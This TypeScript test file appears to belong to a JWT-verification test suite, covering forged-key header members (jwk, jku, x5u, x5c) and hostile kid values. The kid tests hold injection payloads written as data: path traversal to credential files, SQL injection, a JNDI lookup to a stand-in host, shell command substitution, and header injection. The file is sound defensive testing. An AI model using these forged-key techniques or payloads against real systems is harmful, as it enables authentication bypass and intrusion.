import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect } from "chai";
import { listening, stopped } from "../../served.js";
import { parts, type Members } from "../../support/jose-parts.js";
import { rawSigner, type RawSigner } from "../../support/raw-signer.js";
import type { Suite } from "../../suite.js";

export function keyInjection({ describe, it, before, after, beforeEach, afterEach, attacked }: Suite): void {
  describe("keys that a token brings along (RFC 8725 §3.10)", () => {
    const target = attacked();
    const asked: string[] = [];
    let elsewhere: Server;
    let attacker: RawSigner;

    before(async () => {
      attacker = await rawSigner("attacker");
      const answer = JSON.stringify({ keys: [attacker.jwk] });
      elsewhere = await listening(
        createServer((req, res) => {
          asked.push(req.url ?? "");
          res.setHeader("content-type", "application/json").end(answer);
        }),
      );
    });
    beforeEach(() => void asked.splice(0));
    afterEach(() => expect(asked, "addresses that the token chose").to.deep.equal([]));
    after(() => stopped(elsewhere));

    /** Header members by which an attacker's key, or a way to it, could be handed in. */
    const offers: Record<string, () => Members> = {
      jwk: () => ({ jwk: attacker.jwk }),
      "jwk that claims the published kid": () => ({
        jwk: { ...attacker.jwk, kid: target.entra.keys.signingKid },
      }),
      jku: () => ({ jku: `${origin()}/keys` }),
      x5u: () => ({ x5u: `${origin()}/certificate.pem` }),
      x5c: () => ({ x5c: [attacker.publicKey.export({ type: "spki", format: "der" }).toString("base64")] }),
      "x5t and x5t#S256": () => ({ x5t: "AAAA", "x5t#S256": "AAAA" }),
      "iss and jwks_uri": () => ({ iss: origin(), jwks_uri: `${origin()}/keys` }),
      "all together": () => ({ jwk: attacker.jwk, jku: `${origin()}/keys`, x5u: `${origin()}/c.pem` }),
    };
    const origin = () => `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    const forged = async (header: Members) =>
      attacker.sign(parts(await target.token()).claims, { typ: "JWT", alg: "RS256", ...header });

    for (const [name, offer] of Object.entries(offers)) {
      it(`401 ${name}, signed by the attacker under a published kid`, async () =>
        target.refuses(await forged({ kid: target.entra.keys.signingKid, ...offer() }), "token_signature"));
      it(`401 ${name}, signed by the attacker under a kid of its own`, async () =>
        target.refuses(await forged({ kid: "attacker", ...offer() }), "token_unknown_key"));
      it(`401 ${name} and no kid`, async () => target.refuses(await forged(offer()), "token_header"));
      it(`200 ${name} in a token of the issuer: they are not read`, async () =>
        target.admits(await target.token({ header: offer() })));
    }

    it("401 a kid that is an address", async () =>
      target.refuses(await forged({ kid: `${origin()}/keys` }), "token_unknown_key"));
    it("401 an issuer that is the attacker's", async () => {
      const token = attacker.sign({ ...parts(await target.token()).claims, iss: origin() });
      await target.refuses(token, "token_issuer");
    });
  });

  describe("kid (RFC 7515 §4.1.4)", () => {
    const target = attacked();
    const withKid = (kid: unknown) => target.token({ header: { kid } });

    describe("401 token_unknown_key: a text that names no published key", () => {
      for (const kid of [
        ...["../../../../dev/null", "..\\..\\windows\\win.ini", "/proc/self/environ", "file:///etc/passwd"],
        ...[
          "' OR 1=1 --",
          "x' UNION SELECT 'AAAA",
          "${jndi:ldap://evil.example/a}",
          "$(id)",
          "| id",
          "*",
          "%00",
        ],
        ...["__proto__", "constructor", "toString", "hasOwnProperty", "0", "undefined", "null", " "],
        ...["k\0", "k\r\nX-Injected: 1", "\u202ek", "k".repeat(256)],
      ])
        it(JSON.stringify(kid.slice(0, 40)), async () =>
          target.refuses(await withKid(kid), "token_unknown_key"),
        );
      for (const [name, change] of [
        ["in capitals", (kid: string) => kid.toUpperCase()],
        ["with a space behind", (kid: string) => `${kid} `],
        ["with a NUL behind", (kid: string) => `${kid}\0`],
        ["without its last character", (kid: string) => kid.slice(0, -1)],
      ] as const)
        it(`the published kid ${name}`, async () =>
          target.refuses(await withKid(change(target.entra.keys.signingKid)), "token_unknown_key"));
    });

    describe("401 token_header: no short text at all", () => {
      for (const [name, kid] of [
        ["missing", undefined],
        ["empty", ""],
        ["a number", 1],
        ["zero", 0],
        ["true", true],
        ["null", null],
        ["a list", ["k"]],
        ["an object", { kid: "k" }],
        ["257 characters", "k".repeat(257)],
        ["10 kB", "k".repeat(10_000)],
      ] as const)
        it(name, async () => target.refuses(await withKid(kid), "token_header"));
      it("a list of the published kid", async () =>
        target.refuses(await withKid([target.entra.keys.signingKid]), "token_header"));
    });

    it("200 the published kid", async () => target.admits(await withKid(target.entra.keys.signingKid)));
  });
}
